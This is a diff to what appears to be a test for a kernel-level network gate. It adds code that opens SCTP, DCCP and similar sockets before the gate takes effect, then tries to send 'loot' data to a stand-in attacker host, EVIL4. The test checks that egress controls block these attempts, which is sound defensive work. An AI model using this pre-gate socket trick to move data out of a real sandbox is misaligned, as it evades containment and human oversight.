@@ -1,6 +1,6 @@
 #!/bin/bash
 # SPDX-License-Identifier: BSD-2-Clause
-# attack: uses SCTP, DCCP, UDP-Lite, L2TP, GRE, IP-in-IP, IPv6-in-IPv4, ESP and AH: by sockets of the kernel where it has them, by raw sockets older than the gate for all
+# attack: uses SCTP, DCCP, UDP-Lite, L2TP, GRE, IP-in-IP, IPv6-in-IPv4, ESP and AH: by sockets of the kernel where it has them, new and older than the gate, by raw sockets older than the gate for all
 # stopped-by: egress, sock_create
 # reason: protocol, socket_type
 # kernels: all
@@ -17,7 +17,16 @@ SOCKETS = {"sctp": (socket.SOCK_STREAM, 132), "sctp-packets": (socket.SOCK_SEQPA
 
 raw = {name: (socket.socket(socket.AF_INET, socket.SOCK_RAW, number),
               socket.socket(socket.AF_INET6, socket.SOCK_RAW, number)) for name, number in PROTOCOLS.items()}
+older = {}
+for name, (kind, number) in SOCKETS.items():
+    with attempt("an older socket for " + name):
+        older[name] = socket.socket(socket.AF_INET, kind, number)
 ready()
+for name, sock in older.items():
+    with attempt("older " + name):
+        sock.settimeout(0.2)
+        sock.connect((EVIL4, 9000))
+        sock.send(loot("older-" + name))
 for name, (raw4, raw6) in raw.items():
     with attempt(name):
         raw4.sendto(loot(name + "-4"), (EVIL4, 0))
